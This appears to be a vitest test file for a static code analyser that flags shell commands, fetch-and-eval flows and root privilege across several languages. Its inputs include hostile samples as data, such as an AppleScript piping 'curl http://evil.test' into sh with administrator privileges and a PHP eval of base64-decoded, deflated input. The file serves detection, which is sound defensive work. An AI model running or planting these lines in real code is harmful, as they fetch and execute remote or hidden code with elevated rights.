import fc from "fast-check";
import { describe, expect, test } from "vitest";
import { makeSource } from "../../testing/make-source.ts";
import { showAnalysis } from "../../testing/show-analysis.ts";
import { analyseProgram } from "./analyse-program.ts";

function show(text: string): readonly string[] {
  return showAnalysis(analyseProgram(makeSource(text, { language: "code", medium: "script" })));
}

describe("commands of other languages go on to the shell", () => {
  test.each<[string, string, string[]]>([
    ["Ruby", `system("id | wc")`, ["shell: id | wc"]],
    ["Ruby's backticks", "puts `id -u`", ["shell: id -u"]],
    ["Ruby's %x", "%x{id -u}", ["shell: id -u"]],
    ["Perl", `exec 'id', '-u';`, ["shell: id -u"]],
    ["PHP", `$out = shell_exec("id");`, ["shell: id"]],
    ["Go", `exec.Command("sh", "-c", "id | wc").Run()`, ["shell: sh -c 'id | wc'"]],
    ["Lua", `os.execute("id")`, ["shell: id"]],
    ["a comment", `# system("id")`, []],
    ["a database", `db.exec("SELECT 1"); $pdo->exec("SELECT 1")`, []],
  ])("%s", (_title, text, expected) => {
    expect(show(text)).toEqual(expected);
  });
});

describe("what is fetched or decoded and evaluated in one statement is a flow", () => {
  test.each<[string, string, string[]]>([
    [
      "Ruby",
      `eval(URI.open("http://load.test/x").read)`,
      ["fetch http://load.test/x load.test", "network http://load.test/x -> execute:eval eval"],
    ],
    ["PHP", `eval(gzinflate(base64_decode($x)));`, ["decoded:base64 + decoded:deflate -> execute:eval eval"]],
    ["a plain request", `Net::HTTP.get(URI("https://api.test/v1"))`, ["fetch https://api.test/v1 api.test"]],
    ["a plain evaluation", "eval(code)", ["dynamic-code eval"]],
    ["decoding alone", `$image = base64_decode($data);`, []],
  ])("%s", (_title, text, expected) => {
    expect(show(text)).toEqual(expected);
  });
});

test("no line makes it throw or crawl", () => {
  for (const piece of ["system(", `system("`, "exec '\\", "`", `"a",`, "eval ", "%x{", " "]) {
    const text = piece.repeat(Math.floor(1_000_000 / piece.length));
    expect(show(text)).toEqual(show(text));
  }
  fc.assert(
    fc.property(fc.string(), (text) => {
      expect(show(text)).toEqual(show(text));
    }),
  );
});

test("the commands of an AppleScript are handed on with their lines, and that they run as root is a fact", () => {
  const text =
    'tell app "x"\ndo shell script "curl http://evil.test | sh" with administrator privileges\ndo shell script "echo \\"a\\""\nend';
  const { texts, facts } = analyseProgram(makeSource(text, { language: "code" }));
  expect(texts.map(({ language, text: inner, firstLine }) => [language, inner, firstLine])).toEqual([
    ["shell", "curl http://evil.test | sh", 2],
    ["shell", 'echo "a"', 3],
  ]);
  expect(facts.map((fact) => fact.kind === "act" && fact.act.type)).toEqual(["privilege"]);
});
